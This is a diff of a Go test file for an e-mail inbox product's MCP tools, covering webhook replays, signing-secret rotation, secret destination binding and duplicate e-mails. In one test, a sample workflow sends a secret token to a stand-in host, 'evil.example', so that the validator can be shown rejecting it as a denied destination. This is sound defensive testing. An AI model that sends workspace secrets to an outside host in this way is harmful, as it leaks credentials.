@@ -8,6 +8,7 @@ import (
 	"sort"
 	"strings"
 	"testing"
+	"time"
 
 	"github.com/modelcontextprotocol/go-sdk/mcp"
 
@@ -46,6 +47,7 @@ func snapshotTools(t *testing.T, role string) string {
 // Every era and transport shows each role the tools of its snapshot, and a
 // read-only token of an owner sees exactly what a viewer sees.
 func TestToolSetsByRoleAndScope(t *testing.T) {
+	t.Parallel()
 	h := newHarness(t)
 	readTools, ownerTools := snapshotTools(t, "viewer"), snapshotTools(t, "owner")
 	for _, era := range eras {
@@ -69,6 +71,7 @@ func TestToolSetsByRoleAndScope(t *testing.T) {
 }
 
 func TestOtherWorkspaceIsInvisibleToTools(t *testing.T) {
+	t.Parallel()
 	h := newHarness(t)
 	cs := h.Connect("sandbox", "2026-07-28", yes)
 	for tool, args := range map[string]map[string]any{
@@ -94,6 +97,7 @@ func TestOtherWorkspaceIsInvisibleToTools(t *testing.T) {
 }
 
 func TestInboxLifecycle(t *testing.T) {
+	t.Parallel()
 	h := newHarness(t)
 	cs := h.Connect("owner", "2026-07-28", yes)
 	var ib inbox.Inbox
@@ -154,6 +158,7 @@ func TestInboxLifecycle(t *testing.T) {
 }
 
 func TestListsFilterAndPage(t *testing.T) {
+	t.Parallel()
 	h := newHarness(t)
 	cs := h.Connect("viewer", "2025-11-25", nil)
 	var runs inboxmcp.AgentRunList
@@ -220,6 +225,7 @@ func TestListsFilterAndPage(t *testing.T) {
 
 // No tool output, resource or prompt ever carries a secret value.
 func TestSecretsNeverLeave(t *testing.T) {
+	t.Parallel()
 	h := newHarness(t)
 	ctx := context.Background()
 	values, _ := h.st.RevealSecrets(ctx, demo.Workspace)
@@ -257,6 +263,9 @@ func TestSecretsNeverLeave(t *testing.T) {
 		out.Write(b)
 	}
 	for name, v := range values {
+		if name == inbox.DestinationsSecretName("ERP_TOKEN") {
+			continue // the hosts a secret may go to are shown by secrets_list, by design
+		}
 		if strings.Contains(out.String(), v) {
 			t.Errorf("secret %s's value reached a client", name)
 		}
@@ -276,7 +285,13 @@ func TestSecretsNeverLeave(t *testing.T) {
 	}
 }
 
+// DeliveryListOut is webhooks_deliveries_list's result, as a client reads it.
+type DeliveryListOut struct {
+	Deliveries []inbox.Delivery `json:"deliveries"`
+}
+
 func TestWebhookCreateTestReplay(t *testing.T) {
+	t.Parallel()
 	h := newHarness(t)
 	cs := h.Connect("owner", "2026-07-28", yes)
 	var created inboxmcp.WebhookSecret
@@ -298,14 +313,33 @@ func TestWebhookCreateTestReplay(t *testing.T) {
 	if d.Status != "delivered" || d.HTTPStatus != 200 {
 		t.Fatalf("test delivery: %+v", d)
 	}
+	// A replay is one more attempt of the same delivery: the receiver gets
+	// the delivery's own id (it deduplicates on it), marked as a replay;
+	// the attempt is recorded as the person's, and its success clears the
+	// earlier attempt's error (before, a replay was a second delivery with
+	// an id of its own, and the original kept its error).
+	var before inbox.Delivery
+	var list DeliveryListOut
+	structured(t, h.Call(cs, "webhooks_deliveries_list", map[string]any{"webhook_id": "whk_chat"}), &list)
+	for _, d := range list.Deliveries {
+		if d.ID == "dlv_chat_03" {
+			before = d
+		}
+	}
+	if before.Error == "" || before.Status != "failed" {
+		t.Fatalf("dlv_chat_03 before the replay: %+v, want a failed delivery with its error", before)
+	}
 	var replay inbox.Delivery
 	structured(t, h.Call(cs, "webhooks_deliveries_replay", map[string]any{"delivery_id": "dlv_chat_03"}), &replay)
-	if replay.ReplayOf != "dlv_chat_03" || replay.Status != "delivered" {
+	last := replay.Attempts[len(replay.Attempts)-1]
+	if replay.ID != "dlv_chat_03" || replay.Status != "delivered" || replay.Error != "" || len(replay.Attempts) != len(before.Attempts)+1 ||
+		!last.Replay || last.RequestedBy != "per_ana" || last.Status != "delivered" || !replay.NextAttemptAt.IsZero() {
 		t.Fatalf("replay: %+v", replay)
 	}
-	last := h.recv.reqs[len(h.recv.reqs)-1]
-	if last.header.Get("X-Kobana-Replay-Of") != "dlv_chat_03" || !strings.Contains(string(last.body), `"agent_run_id":"arun_inv_23"`) {
-		t.Errorf("replayed request %v %s", last.header, last.body)
+	got := h.recv.reqs[len(h.recv.reqs)-1]
+	if got.header.Get("X-Kobana-Replay-Of") != "dlv_chat_03" || got.header.Get("X-Kobana-Delivery") != "dlv_chat_03" ||
+		!strings.Contains(string(got.body), `"id":"dlv_chat_03"`) || !strings.Contains(string(got.body), `"agent_run_id":"arun_inv_23"`) {
+		t.Errorf("replayed request %v %s", got.header, got.body)
 	}
 	// A successful delivery heals a failing webhook.
 	var wh inbox.Webhook
@@ -316,6 +350,7 @@ func TestWebhookCreateTestReplay(t *testing.T) {
 }
 
 func TestWorkflowsValidate(t *testing.T) {
+	t.Parallel()
 	h := newHarness(t)
 	cs := h.Connect("viewer", "2025-11-25", nil)
 	var v inboxmcp.Validation
@@ -345,6 +380,7 @@ func TestWorkflowsValidate(t *testing.T) {
 // Records created in the same instant (the test clock is frozen) page
 // without loss or repetition.
 func TestPagingWithEqualTimestamps(t *testing.T) {
+	t.Parallel()
 	h := newHarness(t)
 	cs := h.Connect("owner", "2026-07-28", nil)
 	for _, lp := range []string{"a", "b", "c", "d", "e"} {
@@ -378,6 +414,7 @@ func TestPagingWithEqualTimestamps(t *testing.T) {
 }
 
 func TestPlanLimits(t *testing.T) {
+	t.Parallel()
 	h := newHarness(t)
 	cs := h.Connect("sandbox", "2026-07-28", nil) // the sandbox plan: 1 inbox, 1 agent, 1 webhook
 	if r := h.Call(cs, "inboxes_create", map[string]any{"name": "Two", "local_part": "two"}); !strings.Contains(textOf(r), "limit_reached") {
@@ -458,6 +495,7 @@ func TestWorkspaceRetentionIsSetByItsOwner(t *testing.T) {
 // Deleting an e-mail deletes its raw message where the product keeps it
 // (Options.Messages), after the user's yes.
 func TestEmailDeleteRemovesTheRawMessage(t *testing.T) {
+	t.Parallel()
 	h := newHarness(t)
 	cs := h.Connect("owner", "2026-07-28", yes)
 	if r := h.Call(cs, "emails_delete", map[string]any{"id": "eml_rcp_01"}); r.IsError {
@@ -468,5 +506,200 @@ func TestEmailDeleteRemovesTheRawMessage(t *testing.T) {
 	}
 	if r := h.Call(cs, "emails_get", map[string]any{"id": "eml_rcp_01"}); !strings.HasPrefix(textOf(r), "not_found: ") {
 		t.Fatalf("e-mail after the delete: %s", textOf(r))
+	}
+}
+
+// Rotating a signing secret keeps the previous one signing beside the new
+// for the overlap (two v1 in x-kobana-signature, as Stripe's rolling does),
+// so a receiver can switch without refusing a delivery; an overlap of 0
+// stops the previous secret at once. email.rejected can be subscribed to.
+func TestWebhookSecretRotationOverlap(t *testing.T) {
+	h := newHarness(t)
+	cs := h.Connect("owner", "2026-07-28", yes)
+	var created inboxmcp.WebhookSecret
+	structured(t, h.Call(cs, "webhooks_create", map[string]any{"url": h.recv.srv.URL + "/rotating", "events": []string{"email.rejected"}}), &created)
+	if created.Secret == "" || len(created.Webhook.Events) != 1 || created.Webhook.Events[0] != "email.rejected" {
+		t.Fatalf("a webhook of email.rejected: %+v", created)
+	}
+	id := created.Webhook.ID
+	sent := func() (sig string, body []byte, at time.Time) {
+		t.Helper()
+		var d inbox.Delivery
+		structured(t, h.Call(cs, "webhooks_test", map[string]any{"id": id}), &d)
+		got := h.recv.reqs[len(h.recv.reqs)-1]
+		return got.header.Get(inbox.HeaderSignature), got.body, d.AttemptedAt
+	}
+	var rotated inboxmcp.WebhookSecret
+	structured(t, h.Call(cs, "webhooks_rotate_secret", map[string]any{"id": id, "overlap_hours": 2}), &rotated)
+	if rotated.Secret == created.Secret || !rotated.Webhook.PreviousSecretUntil.Equal(demoNow.Add(2*time.Hour)) {
+		t.Fatalf("rotated: %+v", rotated.Webhook)
+	}
+	sig, body, at := sent()
+	if strings.Count(sig, "v1=") != 2 {
+		t.Errorf("during the overlap the signature is %q, want two v1", sig)
+	}
+	for name, secret := range map[string]string{"new": rotated.Secret, "previous": created.Secret} {
+		if err := inbox.VerifySignature(secret, sig, body, at, 5*time.Minute); err != nil {
+			t.Errorf("during the overlap the %s secret does not verify: %v", name, err)
+		}
+	}
+	var third inboxmcp.WebhookSecret
+	structured(t, h.Call(cs, "webhooks_rotate_secret", map[string]any{"id": id, "overlap_hours": 0}), &third)
+	sig, body, at = sent()
+	if strings.Count(sig, "v1=") != 1 || inbox.VerifySignature(third.Secret, sig, body, at, 5*time.Minute) != nil ||
+		inbox.VerifySignature(rotated.Secret, sig, body, at, 5*time.Minute) == nil || !third.Webhook.PreviousSecretUntil.IsZero() {
+		t.Errorf("after a rotation without overlap: signature %q, webhook %+v", sig, third.Webhook)
+	}
+}
+
+// TestSecretDestinations: secrets_set binds a secret to the hosts it may
+// be sent to; a URL secret is bound to its own host; re-setting a value
+// keeps the destinations; deleting the secret deletes them, so a new
+// secret of the same name starts unbound.
+func TestSecretDestinations(t *testing.T) {
+	t.Parallel()
+	// The demo binds ERP_TOKEN to the ERP, and its chat webhook URL is
+	// bound to its own host.
+	{
+		h := newHarness(t)
+		cs := h.Connect("owner", "2025-11-25", nil)
+		var sl inboxmcp.SecretList
+		structured(t, h.Call(cs, "secrets_list", nil), &sl)
+		got := map[string]string{}
+		for _, s := range sl.Secrets {
+			got[s.Name] = strings.Join(s.Destinations, " ") + " by " + s.BoundBy
+		}
+		if got["ERP_TOKEN"] != "erp.example.com by secrets_set" || got["CHAT_WEBHOOK_URL"] != "chat.example.com by url" {
+			t.Errorf("the demo's secrets: %v", got)
+		}
+	}
+	h := newHarness(t)
+	cs := h.Connect("owner", "2025-11-25", nil)
+	list := func() map[string]inboxmcp.SecretName {
+		var sl inboxmcp.SecretList
+		structured(t, h.Call(cs, "secrets_list", nil), &sl)
+		out := map[string]inboxmcp.SecretName{}
+		for _, s := range sl.Secrets {
+			out[s.Name] = s
+		}
+		return out
+	}
+	var sn inboxmcp.SecretName
+	r := h.Call(cs, "secrets_set", map[string]any{"name": "PAY_TOKEN", "value": "pay-0123456789", "destinations": []string{"Pay.Example.com", "*.pay.example.com:8443"}})
+	structured(t, r, &sn)
+	if r.IsError || strings.Join(sn.Destinations, " ") != "pay.example.com *.pay.example.com:8443" || sn.BoundBy != "secrets_set" {
+		t.Fatalf("secrets_set: %s %+v", textOf(r), sn)
+	}
+	h.Call(cs, "secrets_set", map[string]any{"name": "HOOK_URL", "value": "https://hooks.example.net/T1/B2/c3"})
+	h.Call(cs, "secrets_set", map[string]any{"name": "PLAIN", "value": "just-a-value"})
+	got := list()
+	if s := got["HOOK_URL"]; strings.Join(s.Destinations, " ") != "hooks.example.net" || s.BoundBy != "url" {
+		t.Errorf("a URL secret: %+v", s)
+	}
+	if s := got["PLAIN"]; s.Destinations != nil || s.BoundBy != "" {
+		t.Errorf("an unbound secret: %+v", s)
+	}
+	// A new value keeps the destinations.
+	h.Call(cs, "secrets_set", map[string]any{"name": "PAY_TOKEN", "value": "pay-rotated-99"})
+	if s := list()["PAY_TOKEN"]; strings.Join(s.Destinations, " ") != "pay.example.com *.pay.example.com:8443" {
+		t.Errorf("after a new value: %+v", s)
+	}
+	for want, args := range map[string]map[string]any{
+		`destination "https://pay.example.com"`: {"name": "PAY_TOKEN", "value": "x", "destinations": []string{"https://pay.example.com"}},
+		"destinations is empty":                 {"name": "PAY_TOKEN", "value": "x", "destinations": []string{}},
+	} {
+		if r := h.Call(cs, "secrets_set", args); !r.IsError || !strings.Contains(textOf(r), want) {
+			t.Errorf("secrets_set %v: %s", args, textOf(r))
+		}
+	}
+	if s := list()["PAY_TOKEN"]; strings.Join(s.Destinations, " ") != "pay.example.com *.pay.example.com:8443" {
+		t.Errorf("a refused secrets_set changed the destinations: %+v", s)
+	}
+	// Destinations alone, for a secret set before they existed.
+	r = h.Call(cs, "secrets_set", map[string]any{"name": "PLAIN", "destinations": []string{"plain.example"}})
+	all, _ := h.st.RevealSecrets(context.Background(), demo.Workspace)
+	if s := list()["PLAIN"]; r.IsError || strings.Join(s.Destinations, " ") != "plain.example" || all["PLAIN"] != "just-a-value" {
+		t.Errorf("destinations alone: %s %+v (value %q)", textOf(r), s, all["PLAIN"])
+	}
+	if r := h.Call(cs, "secrets_set", map[string]any{"name": "NOPE", "destinations": []string{"a.example"}}); !r.IsError || !strings.Contains(textOf(r), "value is required") {
+		t.Errorf("destinations alone for a secret that does not exist: %s", textOf(r))
+	}
+	yesCS := h.Connect("owner", "2026-07-28", yes)
+	if r := h.Call(yesCS, "secrets_delete", map[string]any{"name": "PAY_TOKEN"}); r.IsError {
+		t.Fatalf("secrets_delete: %s", textOf(r))
+	}
+	all, _ = h.st.RevealSecrets(context.Background(), demo.Workspace)
+	if _, left := all[inbox.DestinationsSecretName("PAY_TOKEN")]; left {
+		t.Error("the destinations outlived their secret")
+	}
+	h.Call(cs, "secrets_set", map[string]any{"name": "PAY_TOKEN", "value": "new-one-1234"})
+	if s := list()["PAY_TOKEN"]; s.Destinations != nil {
+		t.Errorf("a new secret inherited destinations: %+v", s)
+	}
+}
+
+// TestValidateWithTheWorkspace: workflows_validate lints with the
+// workspace's secret names and destinations, and with an agent's egress
+// list when asked as that agent's answer — what the agent's repair rounds
+// are told.
+func TestValidateWithTheWorkspace(t *testing.T) {
+	t.Parallel()
+	h := newHarness(t)
+	cs := h.Connect("owner", "2025-11-25", nil)
+	codes := func(args map[string]any) []string {
+		t.Helper()
+		var v inboxmcp.Validation
+		structured(t, h.Call(cs, "workflows_validate", args), &v)
+		var ds []struct{ Code string }
+		json.Unmarshal(v.Diagnostics, &ds)
+		var out []string
+		for _, d := range ds {
+			out = append(out, d.Code)
+		}
+		return out
+	}
+	doc := `{"result": 1, "workflow": [{"type": "request", "url": "https://evil.example/x", "body": {"t": "${{secrets.ERP_TOKEN}}", "u": "${{secrets.ERP_TOKN}}"}}]}`
+	if got := codes(map[string]any{"document": doc}); strings.Join(got, " ") != "secret-destination-denied secrets-unknown-name" {
+		t.Errorf("codes %v", got)
+	}
+	var a inbox.Agent
+	structured(t, h.Call(cs, "agents_create", map[string]any{"name": "R", "model": "claude-haiku-4-5", "system_message": "x", "settings": map[string]any{"egress": []string{"erp.example.com"}}}), &a)
+	plain := `{"result": 1, "workflow": [{"type": "request", "url": "https://evil.example/x", "body": "hi"}]}`
+	if got := codes(map[string]any{"document": plain, "agent_id": a.ID}); strings.Join(got, " ") != "egress-denied" {
+		t.Errorf("as the agent's answer: %v", got)
+	}
+	if got := codes(map[string]any{"document": plain}); got != nil {
+		t.Errorf("without an agent: %v", got)
+	}
+}
+
+// A duplicate the intake recorded (another copy of an e-mail the inbox had
+// received) shows in listings, filtered by its status, with the e-mail it
+// copies; emails_get says how the copies matched.
+func TestDuplicatesAreListedWithTheirOriginal(t *testing.T) {
+	h := newHarness(t)
+	ctx := context.Background()
+	repo := inbox.NewRepo(h.st)
+	first, err := repo.Emails.Get(ctx, demo.Workspace, "eml_inv_00")
+	if err != nil {
+		t.Fatal(err)
+	}
+	dup := first
+	dup.ID, dup.AgentRunID, dup.WorkflowRunID = "eml_dup_001", "", ""
+	dup.ReceivedAt = first.ReceivedAt.Add(time.Minute)
+	dup.MarkDuplicate(first.ID, "another copy of "+first.ID+": the same Message-ID and the same bytes")
+	if err := repo.Emails.Create(ctx, demo.Workspace, dup); err != nil {
+		t.Fatal(err)
+	}
+	cs := h.Connect("owner", "2026-07-28", yes)
+	var list inboxmcp.EmailList
+	structured(t, h.Call(cs, "emails_list", map[string]any{"status": "duplicate"}), &list)
+	if len(list.Emails) != 1 || list.Emails[0].ID != dup.ID || list.Emails[0].DuplicateOf != first.ID || list.Emails[0].Status != inbox.EmailDuplicate {
+		t.Fatalf("duplicates listed: %+v, want %s as a copy of %s", list.Emails, dup.ID, first.ID)
+	}
+	var got inbox.Email
+	structured(t, h.Call(cs, "emails_get", map[string]any{"id": dup.ID}), &got)
+	if got.DuplicateOf != first.ID || !strings.Contains(got.StatusDetail, "the same Message-ID") {
+		t.Fatalf("emails_get: duplicate_of %q, detail %q", got.DuplicateOf, got.StatusDetail)
 	}
 }
